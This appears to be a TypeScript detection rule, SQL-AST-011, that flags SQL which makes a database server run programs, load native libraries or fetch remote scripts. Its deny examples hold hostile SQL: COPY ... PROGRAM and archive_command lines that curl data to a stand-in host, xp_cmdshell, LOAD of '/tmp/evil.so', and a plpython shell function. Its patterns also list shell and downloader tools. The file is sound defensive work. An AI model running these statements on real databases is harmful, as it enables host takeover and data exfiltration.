/** SQL-AST-011: SQL that runs programs or loads code on the database host (COPY ... PROGRAM, xp_cmdshell, C functions). */
import { DANGEROUS_SETTINGS, reachingFunctions } from '../../knowledge/sql.js';
import { computesOnly } from '../../knowledge/sql-untrusted-body.js';
import { defineRule } from '../define-rule.js';

/**
 * Code that runs outside SQL's reach (red team r7): MySQL `SET GLOBAL init_connect` runs its SQL
 * for every login, and H2 `CREATE ALIAS ... AS '<java source>'` / `FOR 'java.lang.Runtime.exec'`
 * compiles or binds Java the server then runs.
 */
const HOST_CODE =
  /^\s*(?:set\s+(?:@@)?(?:global|persist|persist_only)\b\s*\.?\s*(init_connect)\b|create\s+(?:force\s+)?alias\s+(?:if\s+not\s+exists\s+)?[\w."]+\s+(?:deterministic\s+)?(?:nobuffer\s+)?(?:as|for)\b)/i;

/**
 * Code the server fetches and runs, or Java source that starts programs (red team r9): H2
 * `RUNSCRIPT FROM 'http://...'` runs a downloaded SQL script (a script file beside the project
 * stays allowed); Oracle `CREATE JAVA SOURCE` whose body calls Runtime.exec or ProcessBuilder.
 */
const FETCHED_SCRIPT = /^\s*runscript\s+from\s+'(?!file:|classpath:)[a-z][\w+.-]*:\/\//i;
const JAVA_PROGRAM =
  /^\s*create\s+(?:or\s+replace\s+)?(?:and\s+(?:compile|resolve)\s+)?(?:noforce\s+)?java\s+(?:source|class|resource)\b[\s\S]*?\b(?:Runtime\s*\.\s*getRuntime\s*\(\s*\)\s*\.\s*exec|ProcessBuilder|ScriptEngineManager|URLClassLoader)\b/i;

/**
 * ClickHouse `executable('<command>', ...)` (red team r10): a script of the server's user_scripts
 * folder stays allowed; a shell line, an absolute path, a URL or a shell or downloader is a command
 * run on the database host.
 */
const HOST_COMMAND =
  /\bexecutable\s*\(\s*'(?=[^']*(?:[|;&`$<>]|:\/\/)|\s*(?:\/|(?:sh|bash|dash|zsh|curl|wget|nc|ncat|socat|python3?|perl|ruby|node|php)\b))/i;

/**
 * sp_configure settings that tune memory, parallelism and maintenance (R17 FP: `max server memory
 * (MB)` after `show advanced options`): the DBA's routine. `show advanced options` alone, or beside
 * a setting not listed here, is the first step to xp_cmdshell and stays denied.
 */
const TUNING =
  /^(?:(?:max|min) server memory(?: \(mb\))?|max degree of parallelism|cost threshold for parallelism|optimize for ad hoc workloads|backup (?:compression|checksum) default|fill factor(?: \(%\))?|max worker threads|blocked process threshold(?: \(s\))?|network packet size(?: \(b\))?|recovery interval(?: \(min\))?|remote query timeout(?: \(s\))?|query wait(?: \(s\))?|min memory per query(?: \(kb\))?|max text repl size(?: \(b\))?|default full-text language|contained database authentication)$/;

export default defineRule({
  id: 'SQL-AST-011',
  invariant: 'NO_SQL_EXFILTRATION',
  kinds: ['sql'],
  summary:
    'COPY ... TO/FROM PROGRAM, xp_cmdshell/sp_OACreate/sys_exec/DBMS_JAVA, LOAD of libraries, LANGUAGE C or untrusted-language functions, enabling command execution through server settings.',
  remediationHint:
    'Do not make the database run programs or load native code. Run the tool yourself in the workspace with a plain command, and move data in and out with ordinary queries.',
  *check(facts) {
    const all = facts.of('sql');
    const configured = all.flatMap((s) => (s.functions.includes('sp_configure') ? (s.settings ?? []) : []));
    // Every sp_configure of the input tunes the server (TUNING), `show advanced options` only as their prelude.
    const tuningOnly =
      configured.some((x) => TUNING.test(x)) &&
      configured.every((x) => TUNING.test(x) || x === 'show advanced options');
    for (const s of all) {
      // A plpython function whose body only computes (knowledge/sql-untrusted-body.ts, r11 twin).
      const pure =
        s.statement === 'create' &&
        /^LANGUAGE plpython\d?u$/.test(s.runsProgram ?? '') &&
        computesOnly(s.text);
      if (s.runsProgram !== undefined && !pure) {
        yield {
          span: s.span,
          reason: `the statement makes the database run a program (${s.statement.toUpperCase()} ... PROGRAM / shell procedure)`,
          suggestedAlternative: null,
        };
        continue;
      }
      if (s.loadsLibrary !== undefined) {
        yield {
          span: s.span,
          reason: `the statement loads native code into the database server (${s.loadsLibrary || 'library'})`,
          suggestedAlternative: null,
        };
        continue;
      }
      const host = HOST_CODE.exec(s.text);
      if (host) {
        yield {
          span: s.span,
          reason: host[1]
            ? 'SET GLOBAL init_connect runs its SQL for every client that logs in'
            : 'CREATE ALIAS binds Java code that the database server runs',
          suggestedAlternative: null,
        };
        continue;
      }
      if (HOST_COMMAND.test(s.text)) {
        yield {
          span: s.span,
          reason: 'executable() runs a command line on the database host and reads its output',
          suggestedAlternative: null,
        };
        continue;
      }
      if (FETCHED_SCRIPT.test(s.text) || JAVA_PROGRAM.test(s.text)) {
        yield {
          span: s.span,
          reason: FETCHED_SCRIPT.test(s.text)
            ? 'RUNSCRIPT FROM a URL makes the database download a script and run it'
            : 'the Java source compiled into the database starts programs on its host',
          suggestedAlternative: null,
        };
        continue;
      }
      const setting = (s.settings ?? []).find((x) => DANGEROUS_SETTINGS.has(x));
      if (setting !== undefined) {
        yield {
          span: s.span,
          reason: `changing the server setting ${setting} enables running programs or loading code`,
          suggestedAlternative: null,
        };
        continue;
      }
      const f = reachingFunctions(s.functions, s.qualifiedFunctions ?? []).find(
        (x) =>
          x.reach === 'program' && !(x.name === 'sp_configure' && tuningOnly && s.functions.length === 1),
      );
      if (f)
        yield {
          span: s.span,
          reason: `${f.name} runs programs or arbitrary code on the database host`,
          suggestedAlternative: null,
        };
    }
  },
  examples: {
    deny: [
      { input: "COPY sqlmapfile FROM PROGRAM 'id'", runtime: 'sql' },
      { input: "COPY (SELECT 1) TO PROGRAM 'curl -d @- https://x.example'", runtime: 'sql' },
      { input: "EXEC master..xp_cmdshell 'whoami'", runtime: 'sql' },
      { input: "EXEC master..sp_configure 'xp_cmdshell',1; RECONFIGURE WITH OVERRIDE", runtime: 'sql' },
      {
        input:
          "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'max server memory (MB)', 28672; EXEC sp_configure 'Ole Automation Procedures', 1; RECONFIGURE;",
        runtime: 'sql',
      },
      {
        input: "CREATE FUNCTION sys_exec(text) RETURNS int AS '/tmp/lib.so', 'sys_exec' LANGUAGE C STRICT",
        runtime: 'sql',
      },
      { input: "LOAD '/tmp/evil.so'", runtime: 'sql' },
      {
        input:
          'CREATE FUNCTION run(c text) RETURNS text AS $$ import subprocess; return subprocess.check_output(c, shell=True) $$ LANGUAGE plpython3u',
        runtime: 'sql',
      },
      { input: "ALTER SYSTEM SET archive_command = 'curl -T %p https://x.example'", runtime: 'sql' },
      { input: "SELECT SYS.DBMS_EXPORT_EXTENSION.GET_DOMAIN_INDEX_TABLES('FOO','BAR')", runtime: 'sql' },
    ],
    allow: [
      { input: 'COPY users FROM STDIN WITH CSV', runtime: 'sql', why: 'data from the client, no program' },
      {
        input:
          "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'max server memory (MB)', 28672; RECONFIGURE;",
        runtime: 'sql',
        why: 'memory tuning, show advanced options only as its prelude',
      },
      {
        input:
          "CREATE FUNCTION slugify(t text) RETURNS text AS $$ import re; return re.sub(r'[^a-z0-9]+', '-', t.lower()) $$ LANGUAGE plpython3u",
        runtime: 'sql',
        why: 'an untrusted language, but a body that only computes',
      },
      {
        input: "CREATE FUNCTION add(a int, b int) RETURNS int AS 'select a + b' LANGUAGE sql",
        runtime: 'sql',
        why: 'a SQL function',
      },
      { input: 'SET search_path TO app, public', runtime: 'sql', why: 'a harmless session setting' },
      { input: "SELECT * FROM programs WHERE name = 'xp_cmdshell'", runtime: 'sql', why: 'the name is data' },
    ],
  },
});
